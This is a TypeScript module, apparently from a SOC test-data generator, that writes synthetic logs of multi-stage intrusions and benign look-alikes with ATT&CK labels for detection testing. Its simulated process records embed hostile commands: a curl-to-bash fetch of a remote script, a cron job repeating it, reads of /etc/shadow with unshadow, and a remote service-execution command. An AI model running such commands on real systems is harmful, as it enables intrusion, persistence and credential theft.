/**
 * What `watchfloor generate` writes: attack chains (recon -> initial access -> execution ->
 * persistence -> privilege escalation -> credential dumping -> lateral movement -> exfiltration),
 * single-step attacks (port scan, malware, password spraying, cloud credential theft), and a
 * benign baseline with a working-day rhythm and benign look-alikes of attacks (administrators'
 * PsExec, the security team's scanner, the nightly backup upload).
 *
 * Each attack step keeps the entities of the step before it (attacker address, account, host), as
 * real intrusions do, so a SOC tool can follow the chain; each item carries its ground truth.
 */
import * as f from './formats.js'
import type { HostRef, Rec } from './formats.js'
import type { Random } from './random.js'
import type { World } from './world.js'

export interface Item {
  t: number
  rec: Rec
  /** Ground truth of attack records: which chain, which step, which ATT&CK technique. */
  chain?: string
  stage?: string
  technique?: string
}

export const STAGES = ['recon', 'initial_access', 'execution', 'persistence', 'privilege_escalation', 'credential_access', 'lateral_movement', 'exfiltration'] as const

const MIN = 60_000

export class Scenarios {
  constructor(
    private readonly rnd: Random,
    private readonly w: World,
  ) {}

  private host(name: string): HostRef {
    return { name, fqdn: this.w.fqdn(name), ip: this.w.hostIp(name) }
  }

  private port(): number {
    return this.rnd.int(32768, 60999)
  }

  /** The full intrusion: a Linux host taken over SSH, then the Windows servers, then data out. */
  intrusion(id: string, t0: number): Item[] {
    const r = this.rnd
    const w = this.w.config
    const attacker = this.w.ip('suspicious')
    const entry = this.host(r.pick(w.hosts.linux))
    const user = r.pick(w.users)
    const servers = r.sample(w.hosts.servers, 4).map((s) => this.host(s))
    const target = servers[0]!
    const exfilDomain = `cdn-${r.hex(6)}.net`
    const out: Item[] = []
    const add = (stage: string, technique: string, t: number, rec: Rec) => out.push({ t, rec, chain: id, stage, technique })
    let t = t0

    // recon: an IDS sees the scanner, and the connection log shows it walking the ports
    for (let i = 0; i < 3; i++)
      add('recon', 'T1046', t + i * 2000, f.suricata(t + i * 2000, 'alert', attacker, this.port(), entry.ip, 22, { alert: { action: 'allowed', gid: 1, signature_id: 2024364, rev: 4, signature: 'ET SCAN Possible Nmap User-Agent Observed', category: 'Web Application Attack', severity: 2 } }))
    const ports = r.sample([21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 631, 993, 995, 1433, 1521, 2049, 2375, 3306, 3389, 5432, 5900, 5985, 6379, 8000, 8080, 8443, 9000, 9200, 11211, 27017], 30)
    ports.forEach((p, i) => add('recon', 'T1046', t + i * 500, f.zeek(t + i * 500, 'conn', `C${r.hex(17)}`, attacker, this.port(), entry.ip, p, { proto: 'tcp', conn_state: p === 22 ? 'SF' : 'REJ', orig_bytes: 0, resp_bytes: 0 })))
    t += 5 * MIN + r.int(0, 3 * MIN)

    // initial access: password guessing over SSH (Filebeat and Wazuh both ship it), then a login
    const guesses = ['root', 'admin', user, 'test', 'oracle', user, 'ubuntu', user, 'postgres', user, 'git', user]
    guesses.forEach((u, i) => {
      const ti = t + i * 6000
      const port = this.port()
      if (i % 2 === 0) add('initial_access', 'T1110.001', ti, f.ecsSshAuth(ti, entry, u, attacker, false, port))
      else
        add(
          'initial_access',
          'T1110.001',
          ti,
          f.wazuh(ti, entry, { id: '5716', description: 'sshd: authentication failed.', groups: ['syslog', 'sshd', 'authentication_failed'] }, 'sshd', `${new Date(ti).toISOString()} ${entry.name} sshd[${port % 9000}]: Failed password for ${u} from ${attacker} port ${port} ssh2`, { srcip: attacker, srcport: String(port), dstuser: u }),
        )
    })
    t += guesses.length * 6000 + 20_000
    add('initial_access', 'T1078', t, f.ecsSshAuth(t, entry, user, attacker, true, this.port()))
    t += 2 * MIN

    // execution: a script fetched from the attacker and piped into a shell
    add('execution', 'T1059.004', t, f.ecsProcess(t, entry, user, 'bash', `bash -c curl -s http://${attacker}/s.sh | bash`, 'sshd'))
    t += MIN
    // persistence: the same download every five minutes, from cron
    add('persistence', 'T1053.003', t, f.ecsProcess(t, entry, user, 'bash', `bash -c echo "*/5 * * * * root curl -s http://${attacker}/s.sh | bash" >> /etc/cron.d/sysupdate`, 'bash'))
    t += 2 * MIN
    // privilege escalation: a root shell through sudo
    add('privilege_escalation', 'T1548.003', t, f.ecsSudo(t, entry, user, '/bin/bash'))
    t += MIN
    // credential access: the password hashes, ready for cracking
    add('credential_access', 'T1003.008', t, f.ecsProcess(t, entry, 'root', 'cat', 'cat /etc/shadow', 'bash'))
    add('credential_access', 'T1003.008', t + 5000, f.ecsProcess(t + 5000, entry, 'root', 'unshadow', 'unshadow /etc/passwd /etc/shadow', 'bash'))
    t += 6 * MIN

    // lateral movement: the cracked domain password used on four servers, then a service on one
    servers.forEach((s, i) =>
      add('lateral_movement', 'T1021.002', t + i * 40_000, f.winEvent(t + i * 40_000, s, 'Security', 4624, { TargetUserName: user, TargetDomainName: 'CORP', LogonType: 3, IpAddress: entry.ip, IpPort: String(this.port()), LogonProcessName: 'NtLmSsp', AuthenticationPackageName: 'NTLM', WorkstationName: entry.name.toUpperCase() })),
    )
    t += servers.length * 40_000
    add('lateral_movement', 'T1021.002', t, f.winEvent(t, target, 'Security', 5145, { SubjectUserName: user, SubjectDomainName: 'CORP', IpAddress: entry.ip, IpPort: String(this.port()), ShareName: '\\\\*\\IPC$', RelativeTargetName: 'svcctl', AccessMask: '0x3' }))
    const svc = `${r.hex(8).toUpperCase()}`
    add('lateral_movement', 'T1569.002', t + 2000, f.winEvent(t + 2000, target, 'System', 7045, { ServiceName: svc, ImagePath: `%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat`, ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }))
    t += 8 * MIN

    // exfiltration: an archive out over DNS (encoded names), then the rest over HTTPS
    for (let i = 0; i < 70; i++) {
      const ti = t + i * 3000
      const chunk = Buffer.from(`${id}:${i}:${r.hex(24)}`).toString('hex').slice(0, 56)
      add('exfiltration', 'T1048.003', ti, f.ecsDns(ti, target, this.w.hostIp(w.hosts.servers[w.hosts.servers.length - 1]!), `${chunk}.${i}.x.${exfilDomain}`, 'TXT'))
    }
    t += 70 * 3000 + MIN
    for (let i = 0; i < 3; i++) add('exfiltration', 'T1048', t + i * 60_000, f.ecsFlow(t + i * 60_000, target, attacker, 443, 210_000_000 + r.int(0, 20_000_000), 40_000))
    return out
  }

  /** A port scan from outside against one internal host. */
  portScan(id: string, t0: number): Item[] {
    const attacker = this.w.ip('suspicious')
    const victim = this.host(this.rnd.pick(this.w.config.hosts.linux))
    return Array.from({ length: 40 }, (_, i) => {
      const t = t0 + i * 700
      return { t, rec: f.zeek(t, 'conn', `C${this.rnd.hex(17)}`, attacker, this.port(), victim.ip, 1 + i * 37, { proto: 'tcp', conn_state: 'S0', orig_bytes: 0, resp_bytes: 0 }), chain: id, stage: 'recon', technique: 'T1046' }
    })
  }

  /** A malicious download run on a workstation, caught by the antivirus. */
  malware(id: string, t0: number): Item[] {
    const wks = this.host(this.rnd.pick(this.w.config.hosts.workstations))
    const user = this.rnd.pick(this.w.config.users)
    const file = `C:\\Users\\${user}\\Downloads\\invoice_${this.rnd.hex(4)}.exe`
    return [
      { t: t0, rec: f.sysmon(t0, wks, 1, { Image: file, CommandLine: `"${file}"`, ParentImage: 'C:\\Windows\\explorer.exe', User: `CORP\\${user}`, ProcessId: this.rnd.int(1000, 9000), Hashes: `SHA256=${this.rnd.hex(64).toUpperCase()}` }), chain: id, stage: 'execution', technique: 'T1204.002' },
      {
        t: t0 + 4000,
        rec: { '@timestamp': new Date(t0 + 4000).toISOString(), EventID: 1116, Channel: 'Microsoft-Windows-Windows Defender/Operational', SourceName: 'Microsoft-Windows-Windows Defender', Hostname: wks.fqdn, 'Threat Name': 'Trojan:Win32/Emotet.RT!MTB', Path: `file:_${file}`, 'Detection User': `CORP\\${user}`, 'Severity Name': 'Severe' },
        chain: id,
        stage: 'execution',
        technique: 'T1204.002',
      },
    ]
  }

  /** One address trying one password on many domain accounts. */
  passwordSpray(id: string, t0: number): Item[] {
    const dc = this.host(this.w.config.hosts.servers.find((s) => s.startsWith('DC')) ?? this.w.config.hosts.servers[0]!)
    const from = this.w.ip('suspicious')
    return this.rnd.sample(this.w.config.users, 10).map((u, i) => {
      const t = t0 + i * 5000
      return { t, rec: f.winEvent(t, dc, 'Security', 4625, { TargetUserName: u, TargetDomainName: 'CORP', LogonType: 3, IpAddress: from, Status: '0xc000006d', SubStatus: '0xc000006a', EventType: 'AUDIT_FAILURE', Keywords: 'Audit Failure' }), chain: id, stage: 'initial_access', technique: 'T1110.003' }
    })
  }

  /** An EC2 instance's role credentials stolen and used from a laptop to list and read buckets. */
  cloudTheft(id: string, t0: number): Item[] {
    const from = this.w.ip('suspicious')
    const instance = `i-0${this.rnd.hex(16)}`
    const arn = `arn:aws:sts::123456789012:assumed-role/web-app-role/${instance}`
    const identity = { type: 'AssumedRole', principalId: `AROAEXAMPLEROLEID:${instance}`, arn, accountId: '123456789012' }
    const ua = 'aws-cli/2.15.0 Python/3.11.6 Darwin/23.1.0 source/arm64'
    const out: Item[] = [{ t: t0, rec: f.cloudtrail(t0, 's3.amazonaws.com', 'ListBuckets', identity, from, ua), chain: id, stage: 'discovery', technique: 'T1078.004' }]
    for (let i = 0; i < 5; i++) {
      const t = t0 + 60_000 + i * 10_000
      out.push({ t, rec: f.cloudtrail(t, 's3.amazonaws.com', 'GetObject', identity, from, ua, { requestParameters: { bucketName: 'finance-exports', key: `2026/q${(i % 4) + 1}.csv` } }), chain: id, stage: 'collection', technique: 'T1530' })
    }
    return out
  }

  /** Benign records for one moment: the kind drawn by how common it is in a working network. */
  benign(t: number): Rec[] {
    const r = this.rnd
    const w = this.w.config
    const k = r.float()
    const user = r.pick(w.users)
    const wks = this.host(w.hosts.workstations[w.users.indexOf(user) % w.hosts.workstations.length]!)
    if (k < 0.22) {
      const web = this.host(r.pick(w.hosts.linux.filter((h) => h.startsWith('web')).concat(w.hosts.linux[0]!)))
      const path = r.pick(['/', '/index.html', '/products', '/products/42', '/cart', '/static/app.js', '/static/site.css', '/api/v1/items?page=2', '/login'])
      return [f.ecsWeb(t, web, this.w.ip('external'), path === '/login' ? 'POST' : 'GET', path, r.chance(0.03) ? 404 : 200, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36', r.int(300, 90_000))]
    }
    if (k < 0.36) {
      const name = r.pick(['www.microsoft.com', 'login.microsoftonline.com', 'outlook.office365.com', 'github.com', 'www.google.com', 'update.googleapis.com', 'slack.com', 'teams.microsoft.com', 'api.github.com', 'ocsp.digicert.com'])
      return [f.zeek(t, 'dns', `C${r.hex(17)}`, wks.ip, this.port(), this.w.hostIp(w.hosts.servers[w.hosts.servers.length - 1]!), 53, { proto: 'udp', trans_id: r.int(1, 65535), query: name, qclass_name: 'C_INTERNET', qtype_name: 'A', rcode_name: 'NOERROR', answers: [this.w.ip('external')] })]
    }
    if (k < 0.5) return [f.zeek(t, 'conn', `C${r.hex(17)}`, wks.ip, this.port(), this.w.ip('external'), 443, { proto: 'tcp', service: 'ssl', duration: r.float() * 30, orig_bytes: r.int(500, 60_000), resp_bytes: r.int(2_000, 2_000_000), conn_state: 'SF' })]
    if (k < 0.6) {
      const app = r.pick([
        ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer'],
        ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'],
        ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\Public\\notes.txt'],
        ['C:\\Program Files\\Microsoft VS Code\\Code.exe', '"C:\\Program Files\\Microsoft VS Code\\Code.exe"'],
      ] as const)
      return [f.sysmon(t, wks, 1, { Image: app[0], CommandLine: app[1], ParentImage: 'C:\\Windows\\explorer.exe', User: `CORP\\${user}`, ProcessId: r.int(1000, 30000) })]
    }
    if (k < 0.7) {
      // each user works on one file server and one application server, never four hosts
      const server = this.host(w.hosts.servers[w.users.indexOf(user) % 2]!)
      return [f.winEvent(t, server, 'Security', 4624, { TargetUserName: user, TargetDomainName: 'CORP', LogonType: 3, IpAddress: wks.ip, LogonProcessName: 'Kerberos', AuthenticationPackageName: 'Kerberos' })]
    }
    if (k < 0.77) return [f.suricata(t, 'flow', wks.ip, this.port(), this.w.ip('external'), 443, { app_proto: 'tls', flow: { pkts_toserver: r.int(5, 50), pkts_toclient: r.int(5, 80), bytes_toserver: r.int(500, 20000), bytes_toclient: r.int(2000, 400000), state: 'closed', reason: 'timeout' } })]
    if (k < 0.83) {
      const linux = this.host(r.pick(w.hosts.linux))
      const admin = r.pick(w.admins)
      return [f.ecsSshAuth(t, linux, admin, this.w.hostIp(w.hosts.workstations[0]!), true, this.port())]
    }
    if (k < 0.88) {
      const linux = this.host(r.pick(w.hosts.linux))
      return [f.wazuh(t, linux, { id: '5501', description: 'PAM: Login session opened.', level: 3, groups: ['pam', 'syslog', 'authentication_success'] }, 'pam', `${new Date(t).toISOString()} ${linux.name} sshd[${r.int(1000, 9000)}]: pam_unix(sshd:session): session opened for user ${r.pick(w.admins)}(uid=1001) by (uid=0)`)]
    }
    if (k < 0.93) {
      const identity = { type: 'IAMUser', principalId: 'AIDAEXAMPLECIDEPLOY', arn: 'arn:aws:iam::123456789012:user/ci-deployer', accountId: '123456789012', userName: 'ci-deployer' }
      return [f.cloudtrail(t, 'ec2.amazonaws.com', r.pick(['DescribeInstances', 'DescribeVolumes', 'DescribeSecurityGroups']), identity, this.w.ip('external'), 'aws-sdk-go-v2/1.24.0 os/linux')]
    }
    if (k < 0.97) {
      const linux = this.host(r.pick(w.hosts.linux))
      return [f.ecsProcess(t, linux, r.pick(w.admins), r.pick(['ls', 'systemctl', 'df', 'tail']), r.pick(['ls -la /var/log', 'systemctl status nginx', 'df -h', 'tail -n 100 /var/log/syslog']), 'bash')]
    }
    return [f.seed(t, 'login_success', wks.ip, this.w.hostIp(w.hosts.servers[0]!), user, wks.name, `Accepted password for ${user} from ${wks.ip}`)]
  }

  /** An administrator running PsExec against a server: routine, and looks like lateral movement. */
  adminPsexec(t: number): Rec[] {
    const server = this.host(this.rnd.pick(this.w.config.hosts.servers))
    const admin = this.rnd.pick(this.w.config.admins)
    return [
      f.winEvent(t, server, 'Security', 4624, { TargetUserName: admin, TargetDomainName: 'CORP', LogonType: 3, IpAddress: this.w.hostIp(this.w.config.hosts.workstations[0]!), LogonProcessName: 'Kerberos' }),
      f.winEvent(t + 1500, server, 'System', 7045, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }),
    ]
  }

  /** The security team's weekly sweep of a subnet (from its known scanner). */
  scannerSweep(t: number): Rec[] {
    const scanner = this.rnd.pick(this.w.config.scanners)
    const target = this.host(this.rnd.pick(this.w.config.hosts.servers))
    return Array.from({ length: 30 }, (_, i) => f.zeek(t + i * 300, 'conn', `C${this.rnd.hex(17)}`, scanner, this.port(), target.ip, [22, 80, 443, 445, 3389, 5985][i % 6]! + Math.floor(i / 6) * 1000, { proto: 'tcp', conn_state: 'REJ', orig_bytes: 0, resp_bytes: 0 }))
  }

  /** The nightly backup upload to the cloud (large, outbound, expected). */
  backupUpload(t: number): Rec[] {
    const b = this.w.config.backup
    const host = { name: b.host, fqdn: this.w.fqdn(b.host), ip: b.address }
    return [0, 1, 2].map((i) => f.ecsFlow(t + i * 10 * MIN, host, b.destination, 443, 250_000_000, 90_000))
  }
}
